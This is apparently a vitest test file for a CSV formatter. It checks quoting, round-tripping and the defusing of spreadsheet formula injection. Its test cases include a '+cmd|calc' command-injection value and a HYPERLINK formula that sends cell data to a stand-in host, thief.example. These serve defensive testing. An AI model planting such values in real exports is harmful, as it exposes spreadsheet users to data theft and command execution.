import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell, formatCsvRow } from '../../src/kernel/csv.ts'

describe('a row of CSV', () => {
  test('any text without a formula is read back unchanged, with numbers and gaps', () => {
    const text = fc.string({ unit: 'binary' }).filter((each) => !/^\s*[=+\-@＝＋－＠]|^[\t\r\n\0]/.test(each))
    const value = fc.oneof(text, fc.integer(), fc.constant(null))
    fc.assert(
      fc.property(fc.array(fc.array(value, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const file = rows.map(formatCsvRow).join('')
        expect(parse(file, { relaxColumnCount: true, recordDelimiter: '\r\n' })).toEqual(
          rows.map((row) => row.map((each) => (each === null ? '' : String(each)))),
        )
      }),
    )
  })

  test('ends with a carriage return and a line feed, and quotes what needs it', () => {
    expect(formatCsvRow(['plain', 'a, b', 'say "yes"', 'two\nlines', 7, null])).toBe(
      'plain,"a, b","say ""yes""","two\nlines",7,\r\n',
    )
  })
})

describe('a formula in a text', () => {
  test.each([
    '=1+1',
    '+cmd|calc',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("https://thief.example?"&A1,"here")',
    ' =1',
    '\u00a0=1',
    '\t=1',
    '\r=1',
    '＝1+1',
    '-',
  ])('%j is defused', (text) => {
    expect(csvCell(text).replace(/^"/, '')).toMatch(/^'/)
  })

  test('numbers stay numbers, also those written as text', () => {
    expect([csvCell(-5), csvCell('-5.25'), csvCell('+4930123456')]).toEqual(['-5', '-5.25', '+4930123456'])
  })
})
